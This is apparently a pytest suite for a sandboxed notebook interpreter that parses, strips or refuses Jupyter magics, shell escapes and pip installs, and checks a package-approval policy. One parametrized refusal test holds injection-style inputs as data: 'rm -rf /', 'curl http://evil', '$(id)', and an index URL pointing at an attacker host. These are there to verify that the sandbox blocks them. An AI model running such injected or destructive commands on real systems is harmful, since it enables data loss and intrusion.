"""What notebooks take and Python does not: done away with where it can be, explained where it cannot, and never in valid Python."""

import ast

import pytest
from hypothesis import given
from hypothesis import strategies as st

from plugin import Interpreter
from plugin.errors import PackageNotApproved, PolicyViolation
from plugin.sandbox.inside import magics, policy, source

RULES = policy.Policy.from_rows([])


@pytest.mark.parametrize(
    ("code", "install"),
    [
        ("!pip install numpy", ["numpy"]),
        ("%pip install numpy pandas", ["numpy", "pandas"]),
        ("!pip3 install -q --upgrade 'pandas>=2,<4' numpy==2.4", ["pandas>=2,<4", "numpy==2.4"]),
        ("!pip install pandas>=2", ["pandas>=2"]),
        ("!python -m pip install numpy", ["numpy"]),
        ("!{sys.executable} -m pip install numpy", ["numpy"]),
        ("!uv pip install numpy", ["numpy"]),
        ("%conda install -y numpy", ["numpy"]),
        ("!pip install a \\\n   b \\\n   c", ["a", "b", "c"]),
        ("!pip install numpy # for arrays", ["numpy"]),
        ("try:\n    import x\nexcept ImportError:\n    !pip install x\n    import x", ["x"]),
        ("x = '''\n!pip install no\n'''\n!pip install yes", ["yes"]),
        ("x = (1\n!= 2)\n!pip install yes", ["yes"]),
        ("x = \"\\\"\" # '''\n!pip install yes", ["yes"]),
        ("f'''{x}\n!pip install no'''\nr'\\\\'\n%pip install yes", ["yes"]),
    ],
)
def test_pip_lines_become_requests(code: str, install: list[str]) -> None:
    """The requirements as they are written, without options that change nothing."""
    program, report = source.parse(code, RULES)
    assert (report["error"], report["install"]) == ("", install) and program is not None


@pytest.mark.parametrize(
    ("code", "line", "message"),
    [
        ("!pip install x; rm -rf /", 1, "'x;' is neither"),
        ("!pip install x && curl http://evil", 1, "'&&' is neither"),
        ("!pip install $(id)", 1, "'$(id)' is neither"),
        ("!pip install `id`", 1, "'`id`' is neither"),
        ("!pip install --index-url http://evil x", 1, "the option --index-url is not there"),
        ("!pip install -r requirements.txt", 1, "the option -r is not there"),
        ("!pip install -e .", 1, "the option -e is not there"),
        ("!pip install git+https://x/y", 1, "is neither"),
        ("!pip install ./x.whl", 1, "is neither"),
        ("!pip install /x.whl", 1, "is neither"),
        ("!pip install 'x", 1, "cannot be read"),
        ("!pip install", 1, "names no package"),
        ("!pip install " + "x" * 200, 1, "at most 100 characters"),
        ("!pip install " + "x " * 60, 1, "takes 50 names"),
        ("!pip list", 1, "importlib.metadata"),
        ("x = 1\n!ls -la", 2, "use os.listdir()"),
        ("!cat x.txt", 1, "open(name)"),
        ("!some-program", 1, "other programs cannot be started"),
        ("!!ls", 1, "os.listdir()"),
        ("x = !ls", 1, "cannot be assigned"),
        ("x = %time f()", 1, "cannot be assigned"),
        ("%%bash\nls", 1, "other programs cannot be started"),
        ("%%writefile x.py\nx = 1", 1, "open(name, 'w').write(text)"),
        ("%run x.py", 1, "into this cell"),
        ("%whatever", 1, "a notebook's magic"),
        ("?print", 1, "help(print)"),
        ("print?", 1, "help(print)"),
        ("x = 1\ndf.head??", 2, "help(df.head)"),
        ("!" + "x" * 10**6, 1, "other programs cannot be started"),
    ],
)
def test_what_cannot_be_done_is_explained(code: str, line: int, message: str) -> None:
    """As a SyntaxError at its line, which says what to use instead; what is told is bounded."""
    program, report = source.parse(code, RULES)
    assert program is None and report["install"] == []
    assert f'File "<cell>", line {line}\n' in report["error"] and message in report["error"]
    assert len(report["error"]) < 2000


@pytest.mark.parametrize(
    "code",
    [
        "%matplotlib inline\nx = 1",
        "x = 1\n%load_ext autoreload\n%autoreload 2",
        "%config InlineBackend.figure_format = 'retina'\n\n\nx = 1",
        "%%capture\nx = 1",
        "if True:\n    %matplotlib notebook\n    x = 1",
        "%matplotlib inline\r\nx = 1",
    ],
)
def test_what_changes_nothing_is_left_out(code: str) -> None:
    """And every other line stays where it is."""
    plain = magics.plain(code)
    assert plain is not None
    for before, after in zip(code.split("\n"), plain.text.split("\n"), strict=True):
        assert after == before or (before.strip().startswith("%") and after.strip() == "pass")
    ast.parse(plain.text)


@pytest.mark.parametrize(
    "code",
    [
        "a = 7\nb = 2\nc = (a\n% b)\nd = a \\\n% b\nprint(c, d)",
        "x = '''\n!ls\n%time\n?y\n'''",
        "x = [\n'!pip install x',\n]",
        "def f():\n    '''%magic'''\n    # !ls\n    return 1 != 2",
        "s = '%d' % 3",
    ],
)
def test_valid_python_is_never_changed(code: str) -> None:
    """It is parsed as it stands, and what is parsed is what was given."""
    program, report = source.parse(code, RULES)
    assert program is not None and report["error"] == "" and report["install"] == []
    assert "".join(source.linecache.cache[source.NAME][2]).rstrip("\n") == code.rstrip("\n")


@pytest.mark.parametrize("code", ["def f(:", "x = = 1", "for", "'abc", "x = (1,", "if x:\npass", "%", "100 % "])
def test_what_is_no_magic_is_pythons_to_refuse(code: str) -> None:
    """In Python's own words, but for a line that begins with a sign of theirs."""
    _, report = source.parse(code, RULES)
    assert "Error" in report["error"]


@given(st.text(alphabet="ab'\"\\%!?\n ()#{}[]=", max_size=60))
def test_any_text_is_taken_or_refused(code: str) -> None:
    """Whatever it is, lines stay in their places."""
    try:
        plain = magics.plain(code)
    except magics.Refused as refusal:
        assert 1 <= refusal.line <= code.count("\n") + 1
        return
    assert plain is None or plain.text.count("\n") == code.count("\n")


async def test_what_is_timed_runs_once_and_says_how_long(interpreter: Interpreter) -> None:
    """Values of last expressions are shown, times are told after what they are of."""
    cell = await interpreter.run("%%time\nx = 2\nprint('a')\nx + 1", user_id=1)
    assert cell.output.startswith("a\n3\nWall time: ") and cell.output.count("Wall time") == 1
    lines = await interpreter.run(
        "n = []\n%time n.append(1)\n%timeit -n 100 -r 3 n.append(2)\nfor i in range(2):\n    %time n.append(i)\n%time n",
        user_id=1,
    )
    told = lines.output.splitlines()
    assert [line.partition(":")[0] for line in told] == ["Wall time", "Wall time", "[1, 2, 0, 1]", "Wall time"]


@pytest.mark.parametrize(
    ("code", "output"),
    [
        ("```python\nprint(1)\n```", "1\n"),
        ("\n  ```py\nprint(2)\n```\n\n", "2\n"),
        ("```\n%matplotlib inline\nprint(3)", "3\n"),
        ("x = '''\n```python\n```\n'''\nprint(len(x))", "15\n"),
    ],
)
async def test_fences_around_all_of_it_are_left_out(interpreter: Interpreter, code: str, output: str) -> None:
    """Within a string they stay."""
    result = await interpreter.run(code, user_id=1)
    assert (result.output, result.error) == (output, "")


@given(st.text(alphabet="`py \n'", max_size=40))
def test_without_fences_lines_keep_their_numbers(code: str) -> None:
    assert magics.without_fences(code).count("\n") == code.count("\n")


async def test_line_numbers_stay_right(interpreter: Interpreter) -> None:
    """In tracebacks, after lines that were done away with."""
    result = await interpreter.run("%matplotlib inline\n!pip install numpy \\\n  pandas\n\n%time 1 / 0", user_id=1)
    assert 'File "<cell>", line 5' in result.error and "1 / 0" in result.error
    fenced = await interpreter.run("```python\n\n1 / 0\n```", user_id=1)
    assert 'File "<cell>", line 3' in fenced.error and "1 / 0" in fenced.error


async def test_pip_goes_to_the_catalogue(interpreter: Interpreter) -> None:
    """What is approved and there already changes nothing; what is not approved is refused before anything runs."""
    result = await interpreter.run("!pip install -q numpy\nimport numpy\nnumpy.int8(3) + 1", user_id=1)
    assert result.success, result.error
    with pytest.raises(PackageNotApproved, match="'requests'"):
        await interpreter.run("print('ran')\n!pip install requests", user_id=1)
    with pytest.raises(PolicyViolation, match="line 2"):
        await interpreter.run("%matplotlib inline\nimport socket", user_id=1)
